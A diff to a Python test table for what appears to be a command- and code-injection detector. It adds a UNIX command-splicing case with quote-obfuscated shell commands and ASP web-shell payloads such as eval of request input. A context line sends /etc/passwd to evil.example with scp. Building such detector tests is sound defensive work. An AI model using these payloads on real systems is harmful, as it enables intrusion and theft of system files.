@@ -93,9 +93,7 @@ CASES: tuple[Case, ...] = (
          "|ssh root@10.0.0.1", "&& scp /etc/passwd me@evil.example:/tmp", ';at 2:00 "echo test"',
          "&&at now", "v='u';cu$v\\r\\l x.example", "x=\"h\";w${x}oami", "`cut x1``dig y2`",
          "`id``whoami`", "; expr 7 \\* 7", "|expr 3482 * 7301", "1|sleep 5", "1&&sleep 5",
-         # Command words spliced by quoting the shell removes; ps with its option words; " & id".
-         ";wh''oami", "|c\\at /etc/hosts", '&& ne""tstat -an', "0;pi\\ng -c 3 127.0.0.1",
-         "$(pyt\\hon -c 'x')",
+         # ps with its option words; " & id" ending a value.
          "; ps aux", "|ps -ef", "x & whoami",
          # Here-strings after a separator, alias/unalias, sqlite and vi shell escapes.
          ";irb<<<1+2", ";gcc10.1<<<'void main(){}'", "alias ls-al='ls -al'", "alias -p jzfrx=id", "; unalias -a",
@@ -117,6 +115,13 @@ CASES: tuple[Case, ...] = (
          "lunch;at noon", "R&D;top priority", "sizes: S;M;L;XL", "expression 7 * 7 = 49",
          "| ps aux | list processes |", "Sure; I''d love to", "ok; can''t make it", "R & D",
          "user id & password", "Paths: C:\\Windows;C:\\Program Files\\Git\\bin", "perl's regex; python's re"),
+    ),
+    Case(
+        "UNIXCommandSplicing",
+        (";wh''oami", "|c\\at /etc/hosts", '&& ne""tstat -an', "0;pi\\ng -c 3 127.0.0.1", "$(pyt\\hon -c 'x')",
+         "; w'h'o'am'i", ";ca''t /etc/hosts", "|u\\name -a"),
+        ("Sure; I''d love to", "ok; can''t make it", "perl's regex; python's re", "x; cat's toy",
+         "Paths: C:\\Windows;C:\\Program Files\\Git\\bin", "a;b\\c"),
     ),
     Case(
         "UNIXShellCommandsUnquoted",
@@ -195,9 +200,11 @@ CASES: tuple[Case, ...] = (
     Case(
         "ASPCodeInjection",
         ('Ex"&"e"&"cute("x")', 'Server.CreateObject("WScript.Shell")', "x:On Error Resume Next:y",
-         'CreateObject("Scripting.FileSystemObject")', 'ExecuteGlobal "x"', "Server.ScriptTimeout=3600"),
+         'CreateObject("Scripting.FileSystemObject")', 'ExecuteGlobal "x"', "Server.ScriptTimeout=3600",
+         '<%eval request("x")%>', '<% Execute(Request("c")) %>', '<%@ Page Language="Jscript"%>'),
         ('="Hello"&" "&"World"', 'cmd.Execute("SELECT 1")', "Please execute the plan", "the server restarted",
-         "On error, resume the next step", "Rock & Roll", "Execute order 66"),
+         "On error, resume the next step", "Rock & Roll", "Execute order 66", "<%= title %>",
+         "<% if user %>hi<% end %>", "evaluate the request later"),
     ),
     Case(
         "UNIXShellStructure",
